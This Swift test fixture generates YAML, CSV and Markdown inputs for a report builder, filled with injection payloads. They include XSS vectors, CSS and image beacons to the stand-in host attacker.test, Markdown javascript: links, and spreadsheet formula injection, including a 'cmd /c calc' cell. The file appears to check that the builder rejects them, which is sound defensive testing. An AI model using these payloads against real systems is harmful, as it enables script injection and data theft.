import Foundation

/// A pack whose every text is an attack: each kind of injection in every place that takes a text.
struct InjectionPack {
  /// The host that no page may ask for anything.
  static let host = "attacker.test"

  static let attacks: [String] = {
    let run = InjectionScript.deed
    return [
      // Elements and handlers
      "<script>\(run)</script>", "<ScRiPt >\(run)</sCrIpT >", "<img src=x onerror=\"\(run)\">", "<svg/onload=\(run)>",
      "<svg><script>\(run)</script></svg>", "<body onload=\(run)>", "<details open ontoggle=\(run)>",
      "<video><source onerror=\(run)>", "<iframe src=\"javascript:parent.\(run)\"></iframe>",
      "<iframe srcdoc='<script>parent.\(run)</script>'>",
      "<math><mtext><table><mglyph><style><img src=x onerror=\(run)>",
      "<object data=//\(host)/o>", "<embed src=//\(host)/e>", "<base href=//\(host)/>",
      "<form action=//\(host)><button autofocus>", "<a href=\"javascript:\(run)\">x</a>",
      "<meta http-equiv=refresh content='0;url=http://\(host)/m'>", "<link rel=stylesheet href=http://\(host)/l.css>",
      "<img src=http://\(host)/i>", "<p style=\"background:url(http://\(host)/p)\">",
      // Out of attributes, elements, comments, sections
      "\" autofocus onfocus=\"\(run)\" x=\"", "' autofocus onfocus=\(run) x='", "\"><script>\(run)</script>",
      "'><script>\(run)</script>", "</title><script>\(run)</script>", "</style><script>\(run)</script>",
      "</text></svg><script>\(run)</script>", "</table></main><script>\(run)</script>", "]]><script>\(run)</script>",
      "--><script>\(run)</script>", "<!-- <script>\(run)</script>", "</textarea></code></pre><script>\(run)</script>",
      // Style sheets
      "<style>@import url(http://\(host)/s.css);*{background:url(http://\(host)/b)}</style>",
      "\\22 }}@import url(http://\(host)/c);*{background:url(http://\(host)/d)}/*",
      "\"}}*{background:url(http://\(host)/f)}@page{@top-left{content:\"",
      // Templates, references, encodings
      "{{{main}}}{{popovers}}", "{{=<% %>=}}<%& main %>", "&lt;script&gt;\(run)&lt;/script&gt;",
      "&#60;script&#62;\(run)&#60;/script&#62;", "\u{FF1C}script\u{FF1E}\(run)\u{FF1C}/script\u{FF1E}",
      "\u{202E}<script>\(run)</script>\u{202C}", "\u{2066}<img src=x onerror=\(run)>\u{2069}",
      "\u{200B}<svg onload=\(run)>\u{FEFF}", "\u{1B}[31m<script>\(run)</script>\u{7F}",
      // Markdown
      "[x](javascript:\(run))", "[x](JaVaScRiPt&colon;\(run))", "![x](http://\(host)/g)", "<javascript:\(run)>",
      "[x](data:text/html,<script>\(run)</script>)", "[x]{source: \"<script>\(run)</script>\"}",
      "`<script>\(run)</script>`", "| <script>\(run)</script> |",
      // Spreadsheets
      "=HYPERLINK(\"http://\(host)\",\"x\")", "+1+cmd|'/c calc'!A1", "-2+3", "@SUM(1)", "\t=1+1",
    ]
  }()

  static var joined: String { attacks.joined(separator: " ") }

  /// A text between double quotes, as YAML and JSON write it.
  static func quoted(_ text: String) -> String {
    var out = "\""
    for scalar in text.unicodeScalars {
      switch scalar {
      case "\"", "\\": out += "\\" + String(scalar)
      case _ where scalar.value < 0x20 || (0x7F..<0xA0).contains(scalar.value):
        out += "\\x" + String(scalar.value + 0x100, radix: 16).dropFirst()
      default: out.unicodeScalars.append(scalar)
      }
    }
    return out + "\""
  }

  private static func cell(_ text: String) -> String {
    "\"" + text.replacingOccurrences(of: "\"", with: "\"\"") + "\""
  }

  static var yaml: String {
    let all = quoted(joined)
    var yaml = """
      title: \(all)
      organisation: \(all)
      as_of: 2026-10-05
      currency: USD
      calendar: {zone: UTC}
      period: 2026-Q3
      minimum_group: 1
      pages: [index.md, words.md]
      business_case: case.yaml
      cover: {purpose: \(all), sponsor: \(all), confidentiality: \(all)}
      events:
        - {date: 2026-08-01, label: \(all)}
      datasets:
        orders:
          file: orders.csv
          key: order_id
          time: at
          cluster: customer
          noun: \(all)
          columns: {order_id: text, at: date, amount: money, channel: text, customer: text}
      segments:
        channel: {label: \(all), orders: channel}
      measures:
        orders: {count: orders}
        revenue: {sum: amount, from: orders, where: \(quoted("channel <> '" + joined.replacing("'", with: "''") + "'"))}
      inputs:

      """
    for (index, attack) in attacks.enumerated() {
      yaml += "  i\(index): {value: 2, unit: \"1\", label: \(quoted(attack)), source: \(quoted(attack))}\n"
    }
    yaml += "metrics:\n"
    for (index, attack) in attacks.enumerated() {
      let text = quoted(attack)
      yaml += """
          m\(index): {value: revenue / orders, better: up, label: \(text), owner: \(text), definition: \(text),
            target: 12, target_source: \(text), plan: 11, pitfalls: [\(text)]}

        """
    }
    return yaml
  }

  static var orders: String {
    let days = ["2026-07-01", "2026-08-01", "2026-09-30", "2026-05-01"]
    var csv = "order_id,at,amount,channel,customer\n"
    for (index, attack) in attacks.enumerated() {
      for (turn, day) in days.enumerated() {
        csv +=
          [
            cell("\(attack)\(index) \(turn)"), day, "\(index + turn).50", cell(attack), cell(attack + "c"),
          ].joined(separator: ",") + "\n"
      }
    }
    return csv
  }

  static var businessCase: String {
    let all = quoted(joined)
    return """
      approved: 2026-03-01
      approved_by: \(all)
      window: 2026-07-01..2026-09-30
      baseline: 2026-Q2
      lines:
        - {name: \(all), kind: benefit, metric: m0, predicted: 10, owner: \(all), reason: \(all)}
      milestones:
        - {name: \(all), planned: 2026-07-01}
      """
  }

  static var index: String {
    let all = quoted(joined)
    let metrics = attacks.indices.map { "m\($0)" }.joined(separator: ", ")
    return """
      ---
      title: \(all)
      recommendation: \(all)
      ---
      # Message {{ m0 }}

      ```scorecard
      metrics: [\(metrics)]
      ```

      ```chart
      kind: bars
      metric: m0
      by: channel
      title: \(all)
      subtitle: \(all)
      note: \(all)
      ```

      ```chart
      kind: line
      metric: m1
      from: 2026-07
      by: channel
      ```

      ```table
      metrics: [m0, m1]
      by: channel
      title: \(all)
      ```

      ```table
      metrics: [\(metrics)]
      columns: [value, interval, plan, target, change]
      ```

      ```quote
      text: \(all)
      source: \(all)
      ```

      ```note
      title: \(all)
      text: \(all)
      ```

      ```statements
      - {text: \(all), owner: \(all), due: \(all)}
      ```

      ```decisions
      - {text: \(all), owner: \(all), due: \(all), state: \(all)}
      ```

      ```review
      ```

      ```milestones
      metric: m0
      by: channel
      ```

      ```definitions
      ```

      ```inputs
      ```

      ```quality
      ```

      ```hashes
      ```

      """
  }

  /// Every attack in every place of running text.
  static var words: String {
    var page = "---\ntitle: Words\n---\n# Message\n\n"
    for attack in attacks {
      let title = attack.replacing("\"", with: "\\\"")
      page += """
        ## \(attack)

        \(attack)

        - \(attack)

        > \(attack)

        *\(attack)* **\(attack)** ``\(attack)`` [\(attack)](index.md "\(title)") [x]: \(attack)

        | \(attack) | {{ m0 }} |
        |---|---|
        | \(attack) | {{ m1 }} \(attack) |

        ~~~html \(attack)
        \(attack)
        ~~~


        """
    }
    return page
  }

  let work: WorkFolder

  /// Writes the pack and builds it as a draft, because half of its sentences are refused.
  init() throws {
    work = try WorkFolder()
    try work.write("pack/pack.yaml", Self.yaml)
    try work.write("pack/orders.csv", Self.orders)
    try work.write("pack/index.md", Self.index)
    try work.write("pack/words.md", Self.words)
    try work.write("pack/case.yaml", Self.businessCase)
  }

  func build() throws -> Tool.Result {
    try Tool.run(["build", work.path("pack"), "--output", work.path("out"), "--draft"])
  }
}
